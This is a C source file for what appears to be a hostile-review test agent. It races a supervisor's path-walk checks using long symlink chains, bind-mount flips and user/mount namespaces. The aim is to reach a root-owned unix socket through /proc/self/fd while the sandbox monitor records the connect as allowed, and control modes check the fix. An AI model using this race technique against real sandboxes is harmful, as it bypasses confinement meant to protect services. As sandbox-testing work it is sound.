/* ha59-agent: hostile review h-attack59's agent (see ha59-host.sh), the
 * agent of h-attack56 (its ha56-agent.c, folded in here) with modes whose flips happen in a
 * mount namespace other than the connecting thread's.
 *   ha59-agent DIR MODE [CONNECTS]
 *
 * MODE xflip, xclimb: flip and climb below, but the flips are made by a
 * child process that stays in the agent's first mount namespace A, while
 * the connecting process moves to a copy B (unshare(CLONE_NEWNS), private
 * propagation) and then puts its root back on A's R (fchdir to a
 * descriptor of A's "/" and chroot(".")). Its lookups walk A's mounts; its
 * /proc/PID/mounts, the supervisor's watch (open_confined), is B's table,
 * where nothing changes. MODE xstatic: the same namespaces, no flipping
 * (control: denied).
 * (The rest is ha56-agent's text.)
 * DIR is a host directory holding a root service's socket s.sock (read-only
 * in the run: unix-peer is due for any name that reaches it).
 *
 * MODE flip: walk_as_kernel asks root_overmounted once, at the walk's first
 * "..", and every later ".." at the root trusts that answer. The agent (a
 * user+mount namespace of its own, chrooted to /dev/shm/ha59r, R) has
 *   R/a/b, R/a/d, R/a/l0 .. l(K-1): links of ~2,000 components each
 *     ("d/../d/../..."), each naming the next, the last "R/a/m" -> "/";
 *   R/p: the agent's /proc (bound); R/x -> "/p"; R/t: T, with T/x -> "/p".
 * and connects "/a/b/../l0/../x/self/fd/F/s.sock" (F: DIR, O_PATH). A
 * thread flips: [T not mounted, R/x] -> bind T over "/" -> unlink R/x ->
 * (wait) -> R/x again -> unmount T -> (wait). In every state the kernel's
 * walk reaches the service: "/.." at the root is T when T is mounted (T/x),
 * R otherwise, where R/x is there whenever T is not. Ours fails at "self"
 * (ENOENT). The walk asks at "b/.." (early); the links take it tens of
 * milliseconds; its "/.." at the root then stays in R on the stale answer
 * while T is mounted, and R/x is missing: ENOENT, "the same end", TRUST:
 * answered ENOENT, recorded allowed, where unix-peer is due.
 * MODE climb: R/x is never removed; the name is
 *   "/a/b/../l0/a/../../x/self/fd/F/s.sock": after the links (at R), "a/.."
 *   lands on R's root dentry and steps into T when T is mounted (the kernel
 *   and the walk's openat alike); the next ".." is T's top: the kernel's
 *   choose_mountpoint stops at the root and stays in T (T/x: the service),
 *   the walk (stale answer) climbs out of the chroot to the run's /dev/shm,
 *   where "x" is missing: ENOENT, TRUST. With T unmounted, R/x: the service.
 * MODE static: the same tree, no flipping, T never mounted (control: the
 *   walk ends in procfs: denied).
 * MODE staticover: T mounted for good, R/x missing (control: the fix of
 *   565e6fb, root_overmounted, denies).
 * CONNECTS (default 50): connects made; each prints one line.
 * HA59_LINKS: K (default 8); HA59_PHASE_US: each phase (default 15000). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define R "/dev/shm/ha59r"

static volatile int stop, keep_x;
static int phase_us = 15000;

static int once(const char *name, int quiet)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0), rc, err;

	snprintf(a.sun_path, sizeof(a.sun_path), "%s", name);
	rc = connect(fd, (struct sockaddr *)&a, sizeof(a));
	err = errno;
	if (rc == 0 && write(fd, "ha59-secret\n", 12) != 12)
		rc = -1;
	if (!quiet)
		fprintf(stderr, "ha59 connect: %s\n", rc == 0 ? "connected" : strerrorname_np(err));
	close(fd);
	return rc == 0 ? 0 : err;
}

static void put(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY);

	if (fd < 0 || write(fd, s, strlen(s)) < 0)
		fprintf(stderr, "ha59 %s: %s\n", path, strerror(errno));
	if (fd >= 0)
		close(fd);
}

/* R/a/l0 .. l(k-1), each ~2,000 components of "d/.." and the next's name. */
static int make_tree(int k)
{
	char t[4096], l[64], next[16];
	int n;

	if (system("rm -rf " R) != 0)
		return -1;
	mkdir(R, 0755);
	mkdir(R "/a", 0755);
	mkdir(R "/a/b", 0755);
	mkdir(R "/a/d", 0755);
	mkdir(R "/p", 0755);
	mkdir(R "/t", 0755);
	if (symlink("/", R "/a/m") != 0 || symlink("/p", R "/x") != 0 ||
	    symlink("/p", R "/t/x") != 0)
		return -1;
	for (int i = 0; i < k; i++) {
		snprintf(l, sizeof(l), R "/a/l%d", i);
		if (i < k - 1)
			snprintf(next, sizeof(next), "l%d", i + 1);
		else
			strcpy(next, "m");
		n = 0;
		while (n + 5 + 16 < 4000)
			n += snprintf(t + n, sizeof(t) - (size_t)n, "d/../");
		snprintf(t + n, sizeof(t) - (size_t)n, "%s", next);
		if (symlink(t, l) != 0)
			return -1;
	}
	return 0;
}

static void sleep_us(int us)
{
	struct timespec ts = {.tv_sec = us / 1000000, .tv_nsec = (long)(us % 1000000) * 1000};

	nanosleep(&ts, NULL);
}

static int mount_t(void)
{
	return mount("/t", "/", NULL, MS_BIND, NULL);
}

static void *flipper(void *arg)
{
	(void)arg;
	while (!stop) {
		sleep_us(phase_us);
		if (mount_t() != 0) {
			perror("ha59 mount");
			break;
		}
		if (!keep_x)
			unlink("/x");
		sleep_us(phase_us);
		if (!keep_x && symlink("/p", "/x") != 0)
			perror("ha59 symlink");
		if (umount2("/..", MNT_DETACH) != 0) {
			perror("ha59 umount");
			break;
		}
	}
	return NULL;
}

int main(int argc, char **argv)
{
	char name[108], map[64];
	const char *mode;
	int f, k = 8, n = 50, ok = 0, counts[4] = {0};
	pthread_t th;
	pid_t child = 0;

	if (argc < 3)
		return 2;
	mode = argv[2];
	if (argc > 3)
		n = atoi(argv[3]);
	if (getenv("HA59_LINKS"))
		k = atoi(getenv("HA59_LINKS"));
	if (getenv("HA59_PHASE_US"))
		phase_us = atoi(getenv("HA59_PHASE_US"));
	f = open(argv[1], O_PATH | O_DIRECTORY);
	if (f < 0 || make_tree(k) != 0) {
		perror("ha59 setup");
		return 2;
	}
	snprintf(map, sizeof(map), "0 %d 1", (int)getuid());
	{
		char gmap[64];

		snprintf(gmap, sizeof(gmap), "0 %d 1", (int)getgid());
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
			perror("ha59 unshare");
			return 2;
		}
		put("/proc/self/setgroups", "deny");
		put("/proc/self/uid_map", map);
		put("/proc/self/gid_map", gmap);
	}
	if (mount("/proc", R "/p", NULL, MS_BIND | MS_REC, NULL) != 0 || chroot(R) != 0 ||
	    chdir("/") != 0) {
		perror("ha59 bind/chroot");
		return 2;
	}
	snprintf(name, sizeof(name), "/a/b/../l0/../x/self/fd/%d/s.sock", f);
	if (mode[0] == 'x') {
		/* The flipper: a child left in A. The connecting process: B's
		 * namespace, A's root. */
		int rootfd = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);

		mode++;
		if (strcmp(mode, "climb") == 0) {
			snprintf(name, sizeof(name), "/a/b/../l0/a/../../x/self/fd/%d/s.sock", f);
			keep_x = 1;
		}
		/* The child keeps A alive (a namespace whose last task left
		 * detaches its mounts: R/p would be empty). */
		child = fork();
		if (child == 0) {
			prctl(PR_SET_PDEATHSIG, SIGKILL);
			if (strcmp(mode, "static") != 0)
				flipper(NULL);
			else
				pause();
			_exit(0);
		}
		if (rootfd < 0 || unshare(CLONE_NEWNS) != 0 || fchdir(rootfd) != 0 ||
		    chroot(".") != 0 || chdir("/") != 0) {
			perror("ha59 xns");
			return 2;
		}
		close(rootfd);
	} else if (strcmp(mode, "climb") == 0) {
		/* R/x stays; "a/.." from the root's child steps into T (ours and
		 * the kernel's alike), and ".." from T's top climbs out of the
		 * chroot on the stale answer (the kernel stays in T). */
		snprintf(name, sizeof(name), "/a/b/../l0/a/../../x/self/fd/%d/s.sock", f);
		keep_x = 1;
		pthread_create(&th, NULL, flipper, NULL);
	} else if (strcmp(mode, "staticover") == 0) {
		if (mount_t() != 0)
			perror("ha59 mount");
		unlink("/x");
	} else if (strcmp(mode, "flip") == 0) {
		pthread_create(&th, NULL, flipper, NULL);
	} else if (strcmp(mode, "static") != 0) {
		return 2;
	}
	for (int i = 0; i < n; i++) {
		int e = once(name, 1);

		if (e == 0)
			counts[0]++, ok++;
		else if (e == ENOENT)
			counts[1]++;
		else if (e == ECONNREFUSED || e == EACCES || e == EPERM)
			counts[2]++;
		else
			counts[3]++;
	}
	if (child > 0) {
		kill(child, SIGKILL);
		waitpid(child, NULL, 0);
	} else if (strcmp(mode, "flip") == 0 || strcmp(mode, "climb") == 0) {
		stop = 1;
		pthread_join(th, NULL);
	}
	fprintf(stderr, "ha59 %s: %d connects: connected %d, ENOENT %d, refused %d, other %d\n",
		mode, n, counts[0], counts[1], counts[2], counts[3]);
	return ok == n ? 0 : 1;
}
